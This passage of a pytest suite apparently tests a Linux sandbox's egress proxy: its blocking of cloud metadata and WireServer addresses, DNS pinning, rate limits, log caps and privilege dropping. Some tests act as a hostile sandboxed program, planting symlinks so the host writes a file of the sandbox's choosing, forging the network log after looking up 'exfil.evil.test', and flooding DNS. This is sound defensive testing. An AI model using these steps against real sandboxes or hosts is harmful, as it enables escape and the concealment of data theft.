    IPv4 address that a host with a tunnel or translator for them goes to
    (here 127.0.0.2 and 169.254.169.254): refused like the IPv4-mapped and
    NAT64 ones, even to [::/0].  In a network namespace of the test's own
    (_own_resolver_run), so that nothing is sent off this machine before
    the fix either (then: a connect, and no route)."""
    inside = PRELUDE + r"""
import ipaddress
def socks6(addr):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
    s.sendall(b"\x05\x01\x00\x05\x01\x00\x04" + ipaddress.IPv6Address(addr).packed + (8080).to_bytes(2, "big"))
    got = b""
    while len(got) < 12:
        b = s.recv(12 - len(got))
        if not b: break
        got += b
    return got[3] if len(got) > 3 else None   # after the method reply (05 00): 05 REP
R["rep"] = [socks6(a) for a in ("::7f00:2", "::ffff:0:7f00:2", "2002:7f00:2::1", "2001:0:4136:e378:8000:63bf:80ff:fffd",
                                "64:ff9b:1::a9fe:a9fe")]
print(json.dumps(R))
"""
    out, asked, log = _own_resolver_run(tmp_path, inside, ["[::/0]:8080"])
    assert out["rep"] == [2] * 5, out     # connection not allowed by ruleset
    reasons = sorted(e["reason"] for e in log if e["kind"] == "socks")
    assert reasons == ["6to4 (2002::/16)", "IPv4-compatible (::/96)", "IPv4-translated (::ffff:0:0:0/96)",
                       "NAT64 local-use (64:ff9b:1::/48)", "Teredo (2001::/32)"], reasons


def test_azure_wireserver_is_refused_like_the_metadata_address(tmp_path):
    """168.63.129.16 (Azure's WireServer: every VM's goal state, extension
    settings, certificates) is in a public range, so 0.0.0.0/0 reached it
    (before the fix: a connect, here no route in the test's own network
    namespace, reply 4); now it is refused like 169.254.169.254 (reply 2),
    and a rule naming it unlocks it."""
    inside = PRELUDE + r"""
def socks4(addr, port):
    s = socket.create_connection(("127.0.0.1", 1080), timeout=10)
    s.sendall(b"\x05\x01\x00\x05\x01\x00\x01" + socket.inet_aton(addr) + port.to_bytes(2, "big"))
    got = b""
    while len(got) < 12:
        b = s.recv(12 - len(got))
        if not b: break
        got += b
    return got[3] if len(got) > 3 else None
R["rep"] = [socks4("168.63.129.16", 80), socks4("168.63.129.16", 32526), socks4("169.254.169.254", 80)]
R["named"] = socks4("168.63.129.16", 8080)
print(json.dumps(R))
"""
    out, asked, log = _own_resolver_run(tmp_path, inside, ["0.0.0.0/0:80", "0.0.0.0/0:32526",
                                                           "168.63.129.16:8080"])
    assert out["rep"] == [2, 2, 2], out       # connection not allowed by ruleset
    assert out["named"] != 2, out             # allowed; no route here
    # The records of the two refused ports; the allowed one's (8080) may be
    # written between them (its setup worker ends on its own time).
    reasons = [e["reason"] for e in log
               if e["kind"] == "socks" and e["addr"] == "168.63.129.16" and e.get("port") in (80, 32526)]
    assert reasons == ["cloud platform endpoint (Azure WireServer 168.63.129.16)"] * 2, log


def test_requests_are_paced():
    """Each DNS query and connection costs the host side CPU outside the
    sandbox's cgroup and an audit line in the caller's file: a flood of
    queries for unlisted names wrote 320,312 lines in this test's 2.9 s
    before the pacing.  Now both proxies and the responder take at most 2,000 at
    once, then 500 a second (PACE_BURST, PACE_RATE in egress/proxy.c), and
    nothing is dropped: the queries are answered in their turn, and a
    request after the flood is still decided (and logged)."""
    import time
    t0 = time.monotonic()
    out, log = sandbox(["--allow-net", "allowed.test"], PRELUDE + r'''
import time
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.setblocking(False)
q = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x05flood\x04test\x00\x00\x01\x00\x01"
n, got, end = 0, 0, time.monotonic() + 2
while time.monotonic() < end:
    try:
        s.sendto(q, ("127.0.0.1", 53)); n += 1
    except BlockingIOError:
        pass
    try:
        while True:
            s.recv(600); got += 1
    except BlockingIOError:
        pass
R["sent"], R["answered"] = n, got
R["after"] = raw("CONNECT unlisted.test:443 HTTP/1.1\r\n\r\n")
print(json.dumps(R))
''')
    wall = time.monotonic() - t0
    bound = 2000 + 500 * (wall + 1)
    dns = [e for e in log if e["kind"] == "dns"]
    assert out["sent"] > bound, (out, wall)     # the flood was one
    assert len(dns) <= bound, (len(dns), wall)
    assert out["answered"] >= 2000 and all(e["host"] == "flood.test" for e in dns)
    assert out["after"][1] == "name not on the allowlist"
    assert [e["host"] for e in log if e["kind"] == "connect"] == ["unlisted.test"]


def test_the_log_file_is_bounded_and_says_so(tmp_path):
    """A sandbox's lines are paced, not counted: 500 a second for a day
    would put gigabytes in the caller's file.  A regular file holds at most
    MaxLogBytes= (64M by default; 4K here), whoever wrote it, the last line
    saying so, while a pipe's reader (the SDK's callback) keeps getting them all.
    The sandbox's requests go on being decided either way."""
    log = tmp_path / "net.jsonl"
    rc, out, err = run(["run", "--net-log", str(log), "--net-max-log-bytes", "4K", "--allow-net", "allowed.test",
                        "--", PY, "-c", PRELUDE + r'''
import socket
for i in range(200):
    try:
        socket.getaddrinfo("n%d.unlisted.test" % i, 443)
    except socket.gaierror:
        pass
R["after"] = raw("CONNECT unlisted.test:443 HTTP/1.1\r\n\r\n")
print(json.dumps(R))
'''], timeout=120)
    assert rc == 0, err
    assert json.loads(out.strip().splitlines()[-1])["after"][1] == "name not on the allowlist"
    data = log.read_bytes()
    assert 0 < len(data) <= 4096, len(data)
    lines = [json.loads(line) for line in data.decode().splitlines()]
    assert lines[-1]["kind"] == "log-full" and "MaxLogBytes=" in lines[-1]["reason"]
    assert all(e["kind"] == "dns" for e in lines[:-1]) and len(lines) > 3
    # The cap is the file's: every later start appending to it (a restart,
    # another session) found a fresh 4K of room, and a sandbox that
    # crashed itself after each 64M grew the file without bound.
    for _ in range(3):
        rc, out, err = run(["run", "--net-log", str(log), "--net-max-log-bytes", "4K", "--allow-net", "allowed.test",
                            "--", PY, "-c", "import socket\nfor i in range(100):\n    try:\n"
                            "        socket.getaddrinfo('m%d.unlisted.test' % i, 443)\n"
                            "    except socket.gaierror:\n        pass\n"], timeout=120)
        assert rc == 0, err
    assert log.read_bytes() == data, "lines were added past MaxLogBytes= by later starts"
    rc, out, _ = run(["policy", "show"])
    assert "MaxLogBytes=64M" in out


def test_a_log_symlink_the_sandbox_planted_is_not_followed(tmp_path):
    """The log often sits in a directory the sandbox writes: its workspace,
    whose symlinks the write-back makes on the host.  A link planted where
    --net-log points, or as a directory above it, had the next start
    create, and append its lines to, a file of the sandbox's choosing with
    the launcher's rights (/etc/nologin as root).  No symlink in the path
    is followed (the start fails, 125, saying so); /dev/stderr, /dev/fd/N
    and /proc/self/fd/N still are."""
    ws, victim = tmp_path / "ws", tmp_path / "victim"
    ws.mkdir()
    (ws / "logs").mkdir()
    victim.mkdir()
    for d in (ws, ws / "logs"):
        d.chmod(0o777)
    plant = f"rm -rf /workspace/net.log /workspace/logs && ln -s {victim}/a /workspace/net.log && " \
        f"ln -s {victim} /workspace/logs"
    rc, _, err = run(["run", "--workspace", str(ws), "--", "/bin/sh", "-c", plant])
    assert rc == 0, err
    assert os.readlink(ws / "net.log") == f"{victim}/a" and os.readlink(ws / "logs") == str(victim)
    for log in (ws / "net.log", ws / "logs" / "b"):
        # A later run with the same workspace is refused before anything
        # starts (a log beneath it: test_a_log_the_sandbox_may_write_is_refused);
        # one without it must not follow the links either.
        for with_ws in (["--workspace", str(ws)], []):
            rc, _, err = run(["run"] + with_ws + ["--allow-net", "allowed.test", "--net-log", str(log),
                              "--", PY, "-c", "import socket\ntry: socket.getaddrinfo('allowed.test', 443)\n"
                              "except OSError: pass"])
            assert os.listdir(victim) == [], log
            if with_ws:
                # refused either way: beneath it by name (120), or through
                # the link that leads out of it (125, not followed)
                assert (rc == 120 and "lies beneath" in err) or (rc == 125 and "not followed" in err), (log, rc, err)
            else:
                assert rc == 125 and "a symbolic link in the path (not followed" in err, (log, rc, err)
    rc, _, err = run(["run", "--allow-net", "allowed.test", "--net-log", "/dev/stderr", "--", PY, "-c",
                      "import socket\ntry: socket.getaddrinfo('n.unlisted.test', 443)\nexcept OSError: pass"])
    assert rc == 0 and '"host":"n.unlisted.test"' in err, (rc, err)


def test_a_log_the_sandbox_may_write_is_refused(tmp_path):
    """The network log is the record of what the sandbox reached, and it
    often sat in the workspace: the sandbox looked up a name it was denied
    (logged) and then replaced /workspace/net.log with lines of its own,
    which the write-back made the host's log (live, it wrote it directly).
    A log beneath the workspace or a writable bind, there yet or not, is
    refused (120); elsewhere, and a descriptor of the caller's, as before."""
    ws = tmp_path / "ws"
    (ws / "logs").mkdir(parents=True)
    ws.chmod(0o777)
    forge = ("import socket, os\ntry: socket.getaddrinfo('exfil.evil.test', 443)\nexcept OSError: pass\n"
             "os.unlink('/workspace/net.log')\nopen('/workspace/net.log', 'w').write('{}\\n')")
    (ws / "net.log").write_text("")
    # Through a link on the way (the sandbox could replace ws/out).
    (tmp_path / "logdir").mkdir()
    (ws / "out").symlink_to(tmp_path / "logdir")
    for argv in (["--workspace", str(ws), "--net-log", str(ws / "out" / "net.log")],
                 ["--workspace", str(ws), "--net-log", str(ws / "net.log")],
                 ["--workspace", str(ws), "--net-log", str(ws / "logs" / "new.log")],
                 ["--workspace", str(ws), "--workspace-size", "infinity", "--net-log", str(ws / "net.log")],
                 ["--bind", f"{ws}:/workspace", "--net-log", str(ws / "net.log")]):
        rc, _, err = run(["run"] + argv + ["--allow-net", "allowed.test", "--", PY, "-c", forge])
        assert rc == 120 and "lies beneath" in err and "record of its own network use" in err, (argv, rc, err)
    assert (ws / "net.log").read_text() == "" and os.listdir(ws / "logs") == []
    log = tmp_path / "net.log"
    rc, _, err = run(["run", "--workspace", str(ws), "--allow-net", "allowed.test", "--net-log", str(log), "--",
                      PY, "-c", forge.replace("os.unlink('/workspace/net.log')\\n", "")])
    assert rc == 0 and '"host":"exfil.evil.test"' in log.read_text(), (rc, err)
    rc, _, err = run(["run", "--workspace", str(ws), "--allow-net", "allowed.test", "--net-log", "/dev/stderr",
                      "--", PY, "-c", "import socket\ntry: socket.getaddrinfo('n.unlisted.test', 443)\n"
                      "except OSError: pass"])
    assert rc == 0 and '"host":"n.unlisted.test"' in err, (rc, err)


def test_proxy_goes_where_the_dns_answer_said(tmp_path):
    """A name is resolved once and its addresses pinned (for the answers'
    60 s TTL), shared by the DNS responder and the proxies: after the
    sandbox was told 127.0.0.2, a fetch through the proxy by that name goes
    to 127.0.0.2 although the host's resolver now answers 127.0.0.3, and
    the resolver was asked once.  The pinned address is still checked for
    each use: on a port its address rule does not name, it is refused.  At
    most 64 names are pinned; the one pinned first makes room for a new one,
    and is looked up again when next used.  With the test's own resolver, as
    above."""
    d = tmp_path
    for n in ("2", "3"):
        (d / n).mkdir()
        (d / n / "who").write_text(f"upstream on 127.0.0.{n}\n")
    inside = PRELUDE + r"""
R["dns"] = sorted({a[4][0] for a in socket.getaddrinfo("pin.test", 8080, socket.AF_INET)})
R["fetch"] = urllib.request.urlopen("http://pin.test:8080/who", timeout=10).read().decode()
R["again"] = urllib.request.urlopen("http://pin.test:8080/who", timeout=10).read().decode()
R["other_port"] = raw("GET http://pin.test:8081/who HTTP/1.1\r\nHost: pin.test:8081\r\n\r\n")
# 64 more names (the table's size) push pin.test out: looked up anew.
R["others"] = [a[4][0] for i in range(64) for a in socket.getaddrinfo(f"n{i}.pin.test", 8080, socket.AF_INET, socket.SOCK_STREAM)]
R["evicted"] = urllib.request.urlopen("http://pin.test:8080/who", timeout=10).read().decode()
print(json.dumps(R))
"""
    servers = f"""{PY} -m http.server -b 127.0.0.2 -d {d}/2 8080 >/dev/null 2>&1 &
s2=$!
{PY} -m http.server -b 127.0.0.3 -d {d}/3 8080 >/dev/null 2>&1 &
s3=$!
for a in 2 3; do
    i=0; while ! {PY} -c "import socket; socket.create_connection(('127.0.0.$a', 8080))" 2>/dev/null; do
        [ $i -lt 100 ] || exit 9; sleep 0.05; i=$((i+1)); done
done"""
    out, asked, log = _own_resolver_run(d, inside, ["pin.test:8080", "pin.test:8081", "*.pin.test:8080",
                                                    "127.0.0.2:8080", "127.0.0.3:8080"],
                                        mode="flip", start=servers, pids="$s2 $s3")
    assert out["dns"] == ["127.0.0.2"]
    assert out["fetch"] == out["again"] == "upstream on 127.0.0.2\n"
    # Name allowed on 8081, its pinned address (loopback) not: refused there.
    assert out["other_port"][0].startswith("HTTP/1.1 403") and "loopback" in out["other_port"][1], out
    # Pinned at most 64 names (PIN_NAMES): the first one out is asked again.
    assert out["others"] == ["127.0.0.2"] * 64
    assert out["evicted"] == "upstream on 127.0.0.3\n"
    assert [a for a in asked if a == ["pin.test", "1"]] == [["pin.test", "1"]] * 2, asked
    http = [(e["port"], e["addr"], e["decision"]) for e in log if e["kind"] == "http"]
    # A request's line is written when its connection ends: a refusal's at
    # once, a relayed fetch's once the relay sees both ends close, which can
    # be after the next request's refusal.  So the lines as a set.
    assert sorted(http) == sorted([(8080, "127.0.0.2", "allow"), (8080, "127.0.0.2", "allow"),
                                   (8081, "127.0.0.2", "deny"), (8080, "127.0.0.3", "allow")]), http


def test_the_hosts_own_addresses_need_a_rule_naming_them(tmp_path):
    """The proxy connects from the host's network namespace: an address of
    the host's own (a public one on eth0; here 198.51.100.7 on the test
    namespace's lo) is the host itself, with every service bound to
    0.0.0.0 or to that address.  It is in no special range, so before the
    fix a listed name resolving there, and 0.0.0.0/0, reached it (the
    fetches on 8080 got the file).  Now only a rule naming that one
    address unlocks it (8081), as only a rule inside loopback unlocks
    loopback; the DNS responder gives the sandbox none of it either."""
    d = tmp_path
    (d / "www").mkdir()
    (d / "www" / "secret").write_text("the host's own service\n")
    inside = PRELUDE + r"""
def q(name):
    try:
        return sorted({a[4][0] for a in socket.getaddrinfo(name, 8080, socket.AF_INET)})
    except socket.gaierror as e:
        return e.errno
R["dns_before"] = q("own.test")
R["name"] = raw("GET http://own.test:8080/secret HTTP/1.1\r\nHost: own.test:8080\r\n\r\n")
R["literal"] = raw("GET http://198.51.100.7:8080/secret HTTP/1.1\r\n\r\n")
R["connect"] = raw("CONNECT 198.51.100.7:8080 HTTP/1.1\r\n\r\n")
R["named_name"] = raw("GET http://own.test:8081/secret HTTP/1.1\r\nHost: own.test:8081\r\n\r\n")
R["named_literal"] = raw("GET http://198.51.100.7:8081/secret HTTP/1.1\r\n\r\n")
print(json.dumps(R))
"""
    servers = f"""ip addr add 198.51.100.7/32 dev lo
{PY} -m http.server -b 198.51.100.7 -d {d}/www 8080 >/dev/null 2>&1 &
s1=$!
{PY} -m http.server -b 198.51.100.7 -d {d}/www 8081 >/dev/null 2>&1 &
s2=$!
for p in 8080 8081; do
    i=0; while ! {PY} -c "import socket; socket.create_connection(('198.51.100.7', $p))" 2>/dev/null; do
        [ $i -lt 100 ] || exit 9; sleep 0.05; i=$((i+1)); done
done"""
    out, asked, log = _own_resolver_run(d, inside, ["own.test:8080", "0.0.0.0/0:8080", "own.test:8081",
                                                    "198.51.100.7:8081"],
                                        mode="own", start=servers, pids="$s1 $s2")
    for k in ("name", "literal", "connect"):
        assert out[k][0].startswith("HTTP/1.1 403") and out[k][1] == "the host's own address", (k, out)
    # The responder answers with what some rule would let the proxy reach:
    # here 8081's exact rule does.
    assert out["dns_before"] == ["198.51.100.7"], out
    for k in ("named_name", "named_literal"):
        assert out[k][0].startswith("HTTP/1.0 200"), (k, out)
    denied = {(e["host"], e["port"], e["reason"]) for e in log if e["decision"] == "deny"}
    assert ("own.test", 8080, "the host's own address") in denied, log


def test_the_hosts_own_address_alone_in_dns(tmp_path):
    """With no rule naming it, the DNS responder gives the sandbox no
    address of the host's own (the name is listed: an empty answer)."""
    inside = PRELUDE + r"""
try:
    R["dns"] = sorted({a[4][0] for a in socket.getaddrinfo("own.test", 443, socket.AF_INET)})
except socket.gaierror as e:
    R["dns"] = e.errno
print(json.dumps(R))
"""
    out, asked, log = _own_resolver_run(tmp_path, inside, ["own.test", "0.0.0.0/0"], mode="own",
                                        start="ip addr add 198.51.100.7/32 dev lo")
    assert out["dns"] == socket.EAI_NODATA, out


def test_pip_install_from_an_allowed_index(tmp_path):
    """pip, unchanged, through HTTP_PROXY: a wheel built here from a tiny
    source package (Debian's setuptools and wheel), served from a PEP 503
    simple index on 127.0.0.2, installed inside into a --target in /tmp."""
    import functools
    import hashlib
    import subprocess
    src = tmp_path / "src" / "nsbox_egress_demo"
    src.mkdir(parents=True)
    (src / "__init__.py").write_text('GREETING = "hi from a wheel"\n')
    (tmp_path / "src" / "setup.py").write_text(
        'from setuptools import setup\nsetup(name="nsbox-egress-demo", version="1.0", packages=["nsbox_egress_demo"])\n')
    p = subprocess.run([PY, "-m", "pip", "wheel", "-q", "--no-deps", "--no-build-isolation", "--no-index",
                        "--disable-pip-version-check", "-w", str(tmp_path / "index" / "files"), "./src"],
                       cwd=tmp_path, capture_output=True, timeout=120)
    assert p.returncode == 0, p.stderr.decode(errors="replace")
    whl = next((tmp_path / "index" / "files").glob("*.whl"))
    sha = hashlib.sha256(whl.read_bytes()).hexdigest()
    proj = tmp_path / "index" / "simple" / "nsbox-egress-demo"
    proj.mkdir(parents=True)
    (tmp_path / "index" / "simple" / "index.html").write_text(
        '<!DOCTYPE html><html><body><a href="nsbox-egress-demo/">nsbox-egress-demo</a></body></html>\n')
    (proj / "index.html").write_text(
        f'<!DOCTYPE html><html><body><a href="../../files/{whl.name}#sha256={sha}">{whl.name}</a></body></html>\n')
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=str(tmp_path / "index"))
    srv = _Server((UP, 0), handler)
    srv.conns = _Conns()
    threading.Thread(target=srv.serve_forever, daemon=True).start()
    port = srv.server_address[1]
    try:
        with tempfile.NamedTemporaryFile(prefix="nsbox-test-netlog-", suffix=".jsonl") as log:
            rc, out, err = run(["run", "--net-log", log.name, "--allow-net", f"{UP}:{port}", "--", "/bin/sh", "-c", f'''
set -e
{PY} -m pip install -q --no-cache-dir --disable-pip-version-check --index-url http://{UP}:{port}/simple/ \
    --target /tmp/t nsbox-egress-demo
PYTHONPATH=/tmp/t {PY} -c "import nsbox_egress_demo; print(nsbox_egress_demo.GREETING)"
'''], timeout=180)
            entries = [json.loads(line) for line in open(log.name) if line.strip()]
    finally:
        srv.shutdown()
        srv.server_close()
    assert rc == 0, err
    assert out.strip().splitlines()[-1] == "hi from a wheel"
    got = [e for e in entries if e["kind"] == "http" and e["decision"] == "allow"]
    assert got and all(e["addr"] == UP and e["port"] == port for e in got)
    assert sum(e["bytes_in"] for e in got) > whl.stat().st_size


@pytest.fixture(scope="module")
def tcp_echo():
    """A TCP echo server on 127.0.0.2, a thread per connection."""
    def handle(c):
        while True:
            try:
                b = c.recv(65536)
                if not b:
                    break
                c.sendall(b)
            except OSError:
                break
    s, conns = _tcp_server(UP, handle, backlog=256, threaded=True)
    yield s.getsockname()[1], conns
    s.close()


def test_many_open_tunnels_and_backpressure(tcp_echo):
    # More tunnels open at once than the proxy has setup workers (64): the
    # established ones are relayed by one event loop.  Then 4 MiB each way
    # through one tunnel, written while read (flow control end to end).
    port, conns = tcp_echo
    out, log = sandbox(["--allow-net", f"{UP}:{port}"], PRELUDE + f'''
import hashlib, threading
N = 100
socks = []
for i in range(N):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=15)
    s.sendall(b"CONNECT {UP}:{port} HTTP/1.1\\r\\n\\r\\n")
    head = b""
    while b"\\r\\n\\r\\n" not in head:
        b = s.recv(1)
        if not b: break
        head += b
    assert head.startswith(b"HTTP/1.1 200"), (i, head)
    socks.append(s)
ok = 0
for i, s in enumerate(socks):
    s.sendall(b"ping %d" % i)
    if s.recv(100) == b"ping %d" % i:
        ok += 1
R["echoed"] = ok
data = os.urandom(4 << 20)
s = socks[0]
t = threading.Thread(target=s.sendall, args=(data,))
t.start()
got = bytearray()
while len(got) < len(data):
    b = s.recv(1 << 20)
    if not b: break
    got += b
t.join()
R["big"] = hashlib.sha256(got).hexdigest() == hashlib.sha256(data).hexdigest()
for s in socks:
    s.close()
print(json.dumps(R))
''', timeout=120)
    assert out["echoed"] == 100 and out["big"]
    conns.settle()
    tunnels = [e for e in log if e["kind"] == "connect"]
    assert len(tunnels) == 100 and all(e["decision"] == "allow" for e in tunnels)
    assert sum(e["bytes_out"] for e in tunnels) >= (4 << 20) and sum(e["bytes_in"] for e in tunnels) >= (4 << 20)


def test_host_side_of_tunnels_is_bounded():
    """The proxy's upstream sockets live in the host's network namespace and
    the launcher's cgroup: a 64M sandbox that read 400 tunnels fast and then
    stopped left 598 MiB queued in them (their receive windows autotuned to
    tcp_rmem's maximum).  Now their buffers are fixed and the tunnels open
    at once are capped by the memory limit (README, egress); more wait."""
    import re
    import subprocess
    import time

    def flood(c):
        c.settimeout(20)
        b = b"x" * 65536
        try:
            while True:
                c.sendall(b)
        except OSError:
            pass
    srv, conns = _tcp_server(UP, flood, backlog=64, threaded=True)
    port = srv.getsockname()[1]
    code = f'''
import socket, time
held, waited = [], 0
for i in range(24):
    s = socket.create_connection(("127.0.0.1", 3128), timeout=1.5)
    try:
        s.sendall(b"CONNECT {UP}:{port} HTTP/1.1\\r\\n\\r\\n")
        head = b""
        while b"\\r\\n\\r\\n" not in head:
            head += s.recv(1)
        assert head.startswith(b"HTTP/1.1 200"), head
        got = len(head.split(b"\\r\\n\\r\\n", 1)[1])
        while got < (2 << 20):
            got += len(s.recv(1 << 20))
        held.append(s)
    except socket.timeout:
        waited += 1
        s.close()
print(len(held), waited, flush=True)
time.sleep(30)
'''
    p = subprocess.Popen([NSBOX, "run", "--memory", "64M", "--allow-net", f"{UP}:{port}", "--net-max-bytes-in",
                          "infinity", "--", PY, "-c", code], stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True)
    try:
        held, waited = map(int, p.stdout.readline().split())
        # 64 MiB / 3.125 MiB a tunnel: 20 at once, the other 4 wait (not refused).
        assert 4 <= held <= 20 and held + waited == 24, (held, waited, p.stderr.read() if p.poll() else "")
        time.sleep(1)
        out = subprocess.run(["ss", "-tnmH", "state", "established", "dport", "=", str(port)],
                             capture_output=True, text=True, check=True).stdout
        rmem = [int(x) for x in re.findall(r"skmem:\(r(\d+)", out)]
        rcvbuf = [int(x) for x in re.findall(r",rb(\d+)", out)]
        assert len(rmem) == held, out
        # Each queue is at most its fixed buffer (the kernel doubles the
        # 256 KiB asked for), and together at most held x that.
        assert max(rcvbuf) <= 512 << 10 and sum(rmem) <= held * (512 << 10), (rcvbuf, rmem)
    finally:
        p.terminate()       # nsbox run ends the sandbox and cleans up
        p.wait(30)
        srv.close()
    conns.settle(30)


@contextlib.contextmanager
def holding_server():
    """A destination on UP that accepts and never answers or closes: a
    tunnel to it is still open when the sandbox ends.  Yields its port."""
    s = socket.socket()
    s.bind((UP, 0))
    s.listen(8)
    s.settimeout(0.2)
    held = []

    def loop():
        while True:
            try:
                c, _ = s.accept()
            except socket.timeout:
                continue
            except OSError:
                return
            held.append(c)
    t = threading.Thread(target=loop, daemon=True)
    t.start()
    try:
        yield s.getsockname()[1]
    finally:
        s.close()
        t.join()
        for c in held:
            c.close()


def test_tunnel_open_at_the_end_is_audited():
    # The destination never closes: the tunnel is still open when the
    # sandbox ends, and its audit line is written then.
    with holding_server() as port:
        out, log = sandbox(["--allow-net", f"{UP}:{port}"], PRELUDE + f'''
c = socket.create_connection(("127.0.0.1", 3128), timeout=10)
c.sendall(b"CONNECT {UP}:{port} HTTP/1.1\\r\\n\\r\\nhello")
R["head"] = c.recv(100).decode()
print(json.dumps(R))
''')
    assert out["head"].startswith("HTTP/1.1 200")
    e = [e for e in log if e["kind"] == "connect"]
    assert len(e) == 1 and e[0]["reason"] == "the sandbox ended" and e[0]["bytes_out"] == 5, log


@contextlib.contextmanager
def _nsbox_run(args, **kw):
    """nsbox run ARGS, its stdout and stderr piped; killed and closed on
    the way out whatever the test did."""
    p = subprocess.Popen([NSBOX, "run"] + args, stdout=subprocess.PIPE, stderr=subprocess.PIPE, **kw)
    try:
        yield p
    finally:
        reap(p)


def _get(port):
    """A raw() request for the upstream's / through the HTTP proxy."""
    return f"GET http://{UP}:{port}/ HTTP/1.1\\r\\nHost: {UP}:{port}\\r\\nConnection: close\\r\\n\\r\\n"


def _children(pid):
    """The host pids of pid's children (all its threads')."""
    out = []
    for t in os.listdir(f"/proc/{pid}/task"):
        try:
            out += [int(c) for c in open(f"/proc/{pid}/task/{t}/children").read().split()]
        except FileNotFoundError:
            pass
    return sorted(out)


@pytest.mark.parametrize("first", ["http", "socks", "dns"])
def test_proxy_forked_at_first_use_without_an_audit(upstream, first):
    """nsbox run with an allowlist and no audit destination forks the proxy
    at the sandbox's first connection or DNS query, not at the start
    (jail_spec.egress_lazy): checked from the host by the launcher's
    children, before and after; the queued first request is served."""
    use = {
        "http": f'R["got"] = raw("{_get(upstream)}")[0]',
        "socks": SOCKS + f'R["got"] = socks(b"\\x01" + socket.inet_aton("{UP}"), {upstream}, '
                 f'payload=b"GET / HTTP/1.1\\r\\nHost: x\\r\\nConnection: close\\r\\n\\r\\n")',
        # Answered by the proxy's responder (NXDOMAIN); with nobody
        # reading the socket the resolver would time out instead.
        "dns": 'try:\n    R["got"] = socket.getaddrinfo("unlisted.example.", 80, socket.AF_INET)\n'
               'except socket.gaierror as e:\n    R["got"] = e.errno',
    }[first]
    script = PRELUDE + f'''
import sys
print("ready", flush=True)
sys.stdin.readline()
{use}
print(json.dumps(R), flush=True)
sys.stdin.readline()
'''
    with _nsbox_run(["--allow-net", f"{UP}:{upstream}", "--allow-net", "*.allowed.test", "--", PY, "-c", script],
                    stdin=subprocess.PIPE) as p:
        assert p.stdout.readline() == b"ready\n"
        before = _children(p.pid)
        assert len(before) == 1, f"the launcher has {before} before any use: a proxy forked at the start"
        p.stdin.write(b"go\n")
        p.stdin.flush()
        out = json.loads(p.stdout.readline())
        after = _children(p.pid)
        assert len(after) == 2 and before[0] in after, f"no proxy after the first use: {before} -> {after}"
        p.stdin.write(b"end\n")
        p.stdin.close()
        assert p.wait(timeout=30) == 0, p.stderr.read().decode()
    if first == "dns":
        assert out["got"] == socket.EAI_NONAME, out
    elif first == "http":
        assert out["got"] == "HTTP/1.0 200 OK", out  # http.server answers 1.0
    else:
        assert out["got"]["rep"] == 0 and out["got"]["data"].startswith("HTTP/1.0 200"), out


@pytest.mark.parametrize("audited", [False, True])
def test_ctrl_c_reaches_the_sandbox_not_its_proxy(upstream, audited):
    """A Ctrl-C at the terminal signals nsbox run's whole process group;
    nsbox run forwards it to the sandbox.  The proxy is in a process group
    of its own: a sandboxed program that handles SIGINT keeps its network
    (the proxy used to take SIGINT's default action and die)."""
    get = _get(upstream)
    script = PRELUDE + f'''
import signal, time
got = []
signal.signal(signal.SIGINT, lambda *a: got.append("SIGINT"))
R["before"] = raw("{get}")[0]
print(json.dumps(R), flush=True)
end = time.monotonic() + 30
while not got and time.monotonic() < end:
    time.sleep(0.01)
R["signals"] = got
R["after"] = raw("{get}")[0]
print(json.dumps(R), flush=True)
'''
    log = tempfile.NamedTemporaryFile(prefix="nsbox-test-netlog-", suffix=".jsonl")
    args = ["--net-log", log.name] if audited else []
    # SIGINT at its default in nsbox run, as in a terminal's foreground job:
    # a test run started in the background (CI) inherits it ignored, and
    # nsbox run keeps an ignored signal ignored (nothing is forwarded).
    with log, _nsbox_run(args + ["--allow-net", f"{UP}:{upstream}", "--", PY, "-c", script], stdin=subprocess.DEVNULL,
                         process_group=0, preexec_fn=lambda: signal.signal(signal.SIGINT, signal.SIG_DFL)) as p:
        first = json.loads(p.stdout.readline())
        assert first["before"] == "HTTP/1.0 200 OK", first
        os.killpg(p.pid, signal.SIGINT)   # what ^C at a terminal does to the foreground job
        out = json.loads(p.stdout.readline())
        assert p.wait(timeout=30) == 0, p.stderr.read().decode()
    assert out["signals"] == ["SIGINT"], out
    assert out["after"] == "HTTP/1.0 200 OK", out


def test_lazy_proxy_fork_failure_ends_the_sandbox_with_the_setup_status(upstream):
    """nsbox run's proxy is forked at first use; if that fork fails (here
    made to by a preloaded shim), the sandbox, whose network would hang,
    is ended and nsbox run exits 125 (setup) saying why."""
    from conftest import BUILD
    # Under make check SANITIZE=..., the ASan runtime must come first.
    preload = [os.environ.get("NSBOX_ASAN_PRELOAD", ""), os.path.join(BUILD, "tests", "shim", "failfork.so")]
    env = dict(os.environ, LD_PRELOAD=" ".join(x for x in preload if x), NSBOX_TEST_FAIL_FORK="1")
    if os.environ.get("NSBOX_ASAN_PRELOAD"):
        env["ASAN_OPTIONS"] = "detect_leaks=0"
    script = 'import socket\ntry:\n    socket.getaddrinfo("unlisted.example.", 80)\nexcept OSError:\n    pass\n' \
             'print("still here")\n'
    argv = [NSBOX, "run", "--allow-net", f"{UP}:{upstream}", "--", PY, "-c", script]
    p = subprocess.run(argv, env=env, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
    err = p.stderr.decode(errors="replace")
    assert p.returncode == 125, (p.returncode, err)
    assert "fork the egress proxy" in err, err
    assert b"still here" not in p.stdout
    # Without the variable the shim forks as usual: the same run works.
    env.pop("NSBOX_TEST_FAIL_FORK")
    p = subprocess.run(argv, env=env, capture_output=True, timeout=60, stdin=subprocess.DEVNULL)
    assert p.returncode == 0 and p.stdout == b"still here\n", p


def _status(pid):
    return dict(line.split(":\t", 1) for line in open(f"/proc/{pid}/status").read().splitlines() if ":\t" in line)


@pytest.mark.parametrize("audited", [False, True])
def test_the_proxy_keeps_no_privilege(upstream, audited):
    """The proxy parses what the sandbox sends, on the host: it keeps no
    capability (as root, not even in its bounding set) and runs with
    no_new_privs (the Landlock domain that forbids it writes needs that).
    Read from the host in /proc/PID/status; before, root's proxy had all
    of root's capabilities."""
    script = PRELUDE + f'''
import sys
R["got"] = raw("{_get(upstream)}")[0]
print(json.dumps(R), flush=True)
sys.stdin.readline()
'''
    log = tempfile.NamedTemporaryFile(prefix="nsbox-test-netlog-", suffix=".jsonl")
    args = ["--net-log", log.name] if audited else []
